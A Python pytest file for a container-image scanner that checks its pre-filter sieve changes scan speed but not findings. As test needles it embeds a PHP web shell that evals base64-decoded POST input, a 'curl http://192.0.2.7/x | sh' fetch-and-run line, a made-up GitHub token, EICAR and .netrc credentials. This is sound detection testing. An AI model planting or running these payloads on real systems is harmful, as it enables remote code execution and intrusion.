"""The sieve changes how long a scan takes, and nothing that it finds."""

import random
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as examples
from hypothesis import strategies as st

from holdfast.fs.tar import TarTree
from holdfast.range.made_up import eicar, github_token
from holdfast.range.planted import planted_layers
from holdfast.scan.content import Content
from holdfast.scan.engines import Engines, open_engines
from holdfast.scan.options import Wanted
from holdfast.scan.sieve import Sieve
from holdfast.scan.walk import walk
from holdfast.settings import Settings
from packs import with_packs
from world import Thing, file, layer

TOKEN = github_token().encode()
SHELL = b"<?php exit; @eval(base64_decode($_POST['c'])); ?>\n"


@pytest.fixture(scope="module")
def engines(tmp_path_factory: pytest.TempPathFactory) -> Engines:
    folder = tmp_path_factory.mktemp("sieve")
    here = Settings(cache=folder / "cache", data=with_packs(folder / "data"))
    return open_engines(here, Wanted(frozenset({"secrets", "malware"})))[0]


def found(engines: Engines, tar: bytes, piece: int, *, sieve: bool) -> tuple[Content, ...]:
    chunks = iter([tar[at : at + piece] for at in range(0, len(tar), piece)])
    strainer = engines.strainer() if sieve else None
    return walk(TarTree(strainer.chunks(chunks) if strainer else chunks), engines, strainer).contents


@pytest.mark.parametrize("piece", [64, 512, 1000, 4096, 1 << 18])
def test_planted_layers_give_the_same(engines: Engines, piece: int) -> None:
    for planted in planted_layers():
        with_it = found(engines, planted.tar, piece, sieve=True)
        assert with_it == found(engines, planted.tar, piece, sieve=False)
        assert with_it


@pytest.mark.parametrize("size", [511, 512, 513, 1024, 1536])
@pytest.mark.parametrize("needle", [TOKEN, SHELL, eicar()], ids=["token", "web shell", "test file"])
def test_at_the_very_end_of_a_file(engines: Engines, needle: bytes, size: int) -> None:
    tar = layer(
        {"a": file(b"x " * ((size - len(needle)) // 2) + b" " * (size % 2 ^ len(needle) % 2) + needle), "zz": "y"}
    )
    assert found(engines, tar, 700, sieve=True) == found(engines, tar, 700, sieve=False)


@pytest.mark.parametrize(
    "content",
    [TOKEN.decode().encode("utf-16"), b"\x7fELF" + bytes(60), b"machine a login b password zX9!kkQ2w\n"],
    ids=["utf-16", "executable", "a file that is asked for by its name"],
)
def test_what_no_expression_is_for_is_asked_for(engines: Engines, content: bytes) -> None:
    tar = layer({"tmp/.netrc": file(content, mode=0o755), "root/.netrc": file(content)})
    assert found(engines, tar, 512, sieve=True) == found(engines, tar, 512, sieve=False)


PIECES = st.sampled_from(
    [TOKEN, SHELL, eicar(), b"password=", b"\0", b" ", b"\n", b"curl http://192.0.2.7/x | sh\n", b"x"]
)


@examples(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(st.lists(st.tuples(PIECES, st.integers(1, 600)), max_size=6), min_size=1, max_size=6),
    st.integers(40, 5000),
)
def test_any_files_in_any_pieces(engines: Engines, files: list[list[tuple[bytes, int]]], piece: int) -> None:
    entries: dict[str, Thing | str | bytes] = {
        f"srv/{number}.php": file(b"".join(part * (count if len(part) < 3 else 1) for part, count in parts))
        for number, parts in enumerate(files)
    }
    tar = layer(entries)
    assert found(engines, tar, piece, sieve=True) == found(engines, tar, piece, sieve=False)


class TestKept:
    def texts(self) -> list[list[tuple[bytes, int]]]:
        return [[(b"abc", 0)], [(b"[0-9]{4}", 0)]]

    def strained(self, sieve: Sieve) -> list[object]:
        strainer = sieve.strainer()
        list(strainer.chunks(iter([b"xxab", b"c 12", b"34 "])))
        return [strainer.touched(0, 0, 11), strainer.touched(1, 0, 11), strainer.touched(1, 512, 3)]

    def test_it_is_compiled_once(self, tmp_path: Path) -> None:
        first = Sieve.load(tmp_path, "s", self.texts)
        second = Sieve.load(tmp_path, "s", lambda: pytest.fail("compiled twice"))
        assert self.strained(first) == self.strained(second) == [True, True, False]

    @pytest.mark.parametrize("data", [b"", b"x", random.Random(1).randbytes(4000)])
    def test_a_damaged_one_counts_as_absent(self, tmp_path: Path, data: bytes) -> None:
        Sieve.load(tmp_path, "s", self.texts)
        (tmp_path / "s").write_bytes(data)
        assert self.strained(Sieve.load(tmp_path, "s", self.texts)) == [True, True, False]

    def test_a_folder_that_cannot_be_written_is_no_error(self, tmp_path: Path) -> None:
        (tmp_path / "file").write_text("")
        assert self.strained(Sieve.load(tmp_path / "file" / "in", "s", self.texts)) == [True, True, False]
